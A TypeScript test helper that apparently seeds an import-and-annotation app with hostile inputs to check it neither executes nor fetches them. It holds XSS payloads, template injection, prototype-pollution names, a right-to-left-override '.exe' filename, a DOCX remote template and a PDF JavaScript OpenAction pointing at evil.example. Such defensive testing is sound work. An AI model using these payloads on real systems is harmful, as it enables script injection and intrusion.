/**
 * A library that means harm: pages and mails of every vector, and every name, title and note a string of the same kind. What of it would
 * run sets `parleyRan`; what would be fetched is fetched from evil.example.
 */
import type { ImportItem } from '../../src/shared/domain/import.ts'
import { jobEnded, type RealCore } from '../helpers/real-core.ts'
import { VECTORS } from '../unit/core/importers/web/vectors.ts'
import { FILLER, pageOf } from '../unit/core/importers/web/reading.ts'
import { docx, paragraph, run } from '../fixtures/import-office/docx.ts'
import { pdf } from '../fixtures/import-office/pdf.ts'

const RAN = 'globalThis.parleyRan=true'

/** Turns what stands behind it on the same line, unless it is kept apart. */
export const TURNED = 'Annex \u202egnp.exe'

/** Strings for every field that a person can fill. */
export const NAMES: readonly string[] = [
  `<script>${RAN}</script>`,
  `<img src="https://evil.example/name.gif" onerror="${RAN}">`,
  `"><svg onload=${RAN}><x y="`,
  `javascript:${RAN}`,
  JSON.stringify({ dangerouslySetInnerHTML: { __html: `<img src=x onerror=${RAN}>` } }),
  JSON.stringify({ $$typeof: 'Symbol(react.element)', type: 'script', props: { children: RAN } }),
  `{{constructor.constructor('${RAN}')()}}`,
  'color:red;background:url(https://evil.example/style.png)',
  '<b>{name}</b> {count, plural, one {#} other {<i>}}',
  `[read](javascript:${RAN}) ![picture](https://evil.example/markdown.png) <https://evil.example/auto>`,
  '__proto__',
  'constructor',
  TURNED,
  'Par\u200bley\u2066 council',
  'Р\u0430rley council',
]

/** A note as programs that know Markdown would draw it. */
export const MARKDOWN = `# Heading\n\n**bold** <u>under</u> ${NAMES[9]}\n\n<img src="https://evil.example/note.png" onerror="${RAN}">\n\n${'>'.repeat(10_000)} deep`

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text)
const mail = (html: string): string =>
  `From: a@b.example\r\nTo: c@d.example\r\nSubject: <img src=x onerror=${RAN}>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n`
const words = (index: number): string => `Testimony of witness ${index}, who was asked at the gate.`

const link = `<w:hyperlink r:id="js">${run('the link')}</w:hyperlink>`
const act = `/S /JavaScript /JS (${RAN})`
const documents: readonly (readonly [name: string, bytes: Uint8Array])[] = [
  [
    'linked.docx',
    docx({
      body: paragraph(`${run('Testimony in a document with ')}${link}${run(` &lt;img src=x onerror=${RAN}&gt;`)}`),
      links: [['js', 'hyperlink', `javascript:${RAN}`]],
      settingsLinks: [['t', 'attachedTemplate', 'http://evil.example/evil.dotm']],
    }),
  ],
  [
    'acting.pdf',
    pdf({ pages: [[[50, 700, 10, 'Testimony in a document that acts when it opens.']]], catalogue: `/OpenAction << ${act} >>` }),
  ],
  [
    'lying.html',
    bytesOf(
      `<html><head><meta charset="utf-7"></head><body><p>Testimony in UTF-7 +ADw-script+AD4-${RAN}+ADw-/script+AD4-</p></body></html>`,
    ),
  ],
  ['long.html', bytesOf(pageOf(`<p>Testimony under a long title.</p>${FILLER}`, `<title>Long ${'x'.repeat(1_000_000)}</title>`))],
]

/** Fills an open library: each vector is a page or a mail with itself as title, outlet, author and note; each name is a text, a tag, an issue, a party. */
export async function fillHostile({ core, client }: RealCore): Promise<void> {
  const items: ImportItem[] = []
  const add = async (name: string, bytes: Uint8Array, metadata: Record<string, string> = {}): Promise<void> => {
    const { stagedId } = await core.control.stageBytes(name, bytes)
    items.push({ stagedId, metadata, addDuplicates: true })
  }
  for (const [index, [, vector]] of VECTORS.entries()) {
    const page = pageOf(`<p>${words(index)}</p>${FILLER}${vector}`, vector)
    const named = { title: vector.slice(0, 1_000), outlet: vector.slice(0, 300), author: vector.slice(0, 500), note: vector }
    await (index % 2 ? add(`${index}.eml`, bytesOf(mail(page)), named) : add(`${index}.html`, bytesOf(page), named))
  }
  for (const [index, name] of NAMES.entries()) {
    const text = `${words(100 + index)} It says ${name} and nothing more.`
    await add(`${name.slice(0, 60).replaceAll('/', '')}.txt`, bytesOf(text), { title: name, outlet: name, author: name, note: MARKDOWN })
  }
  for (const [name, bytes] of documents) await add(name, bytes)
  const { jobId } = await client.call('imports.start', { items })
  const job = await jobEnded(client, jobId)
  if (job.state !== 'done') throw new Error(`not imported: ${JSON.stringify(job)}`)

  const { items: articles } = await client.call('articles.list', {})
  const named = new Map(articles.map(({ title, id }) => [title, id]))
  for (const [index, name] of NAMES.entries()) {
    const guidance = { definition: MARKDOWN, useWhen: name, useNot: name }
    const tag = await client.call('tags.create', { name, hue: 'rose', ...guidance })
    const issue = await client.call('issues.create', { name, ...guidance })
    const party = await client.call('parties.create', { name, note: MARKDOWN, aliases: [{ name: `${name} alias`, language: null }] })
    const articleId = named.get(name)
    if (articleId === undefined) throw new Error(`no article is called ${name}`)
    const texts = { condition: name, consequence: name, deadline: name, translation: name, note: index === 0 ? MARKDOWN : name }
    const coding = { speaker: party.id, issues: [issue.id], reportedBy: [name], stance: 'conditional' as const, ...texts }
    const { id } = await client.call('annotations.create', { articleId, start: 0, end: 20, tag: tag.id, ...coding })
    await client.call('threads.create', { kind: 'demand', title: name, owner: party.id, members: [{ annotationId: id, role: 'raised' }] })
    await client.call('collections.create', { name, articleIds: [articleId] })
    await client.call('searches.save', { name: name.slice(0, 200), query: 'testimony' })
  }
}
